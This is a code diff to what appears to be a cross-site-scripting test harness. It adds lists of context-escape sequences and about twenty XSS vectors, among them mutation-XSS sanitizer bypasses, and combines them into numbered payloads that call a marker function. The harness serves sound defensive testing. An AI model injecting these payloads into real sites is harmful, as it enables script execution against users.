@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+from collections.abc import Sequence
 from dataclasses import dataclass, field
 from urllib.parse import urlsplit
 
@@ -52,10 +53,56 @@ SHAPES = (
     "\u202e<script>xss({})</script>",
     "\uff1cscript\uff1exss({})\uff1c/script\uff1e",
 )
-PAYLOADS = tuple(
-    shape.replace("{}", str(number)) if "{{" not in shape else shape.format(number)
-    for number, shape in enumerate(SHAPES)
+WAYS_OUT = (
+    "",
+    "</textarea>",
+    "</title>",
+    "</style>",
+    "</script>",
+    "</noscript>",
+    "-->",
+    "]]>",
+    '">',
+    "'>",
+    "`>",
+    "\\x3e",
+    "\x00>",
 )
+"""How a text gets out of where it was put."""
+STARTS = (
+    "<img src=x onerror=xss({})>",
+    "<svg/onload=xss({})>",
+    "<script>xss({})</script>",
+    "<script src=data:,xss({})></script>",
+    "<iframe srcdoc='<svg onload=parent.xss({})>'>",
+    "<details open ontoggle=xss({})><summary>x",
+    "<input autofocus onfocus=xss({})>",
+    "<p style=animation-name:x onanimationstart=xss({})>x",
+    "<p tabindex=1 autofocus onfocusin=xss({})>x",
+    "<video autoplay onloadstart=xss({}) src=x>",
+    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=xss({})&gt;'>",
+    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=xss({})>",
+    "<svg></p><style><a id='</style><img src=x onerror=xss({})>'>",
+    "<svg><foreignObject><img src=x onerror=xss({})></foreignObject></svg>",
+    "<template shadowrootmode=open><img src=x onerror=xss({})></template>",
+    "<a href='java\tscript:xss({})' autofocus>x</a>",
+    "<img src=x onerror=&#x78;ss({})>",
+    "<xss-{} contenteditable autofocus onfocus=xss({})>",
+    "<button popovertarget=x onbeforetoggle=xss({})>x",
+    "<object data='data:text/html,<script>parent.xss({})</script>'>",
+)
+"""How a script begins, once it is outside."""
+
+
+def numbered(shapes: Sequence[str], first: int = 0) -> tuple[str, ...]:
+    return tuple(
+        shape.replace("{}", str(number)) if "{{" not in shape else shape.format(number)
+        for number, shape in enumerate(shapes, first)
+    )
+
+
+PAYLOADS = numbered(SHAPES)
+MANY = PAYLOADS + numbered([out + start for out in WAYS_OUT for start in STARTS], len(PAYLOADS))
 
 LISTEN = """
 document.addEventListener("securitypolicyviolation", (event) =>
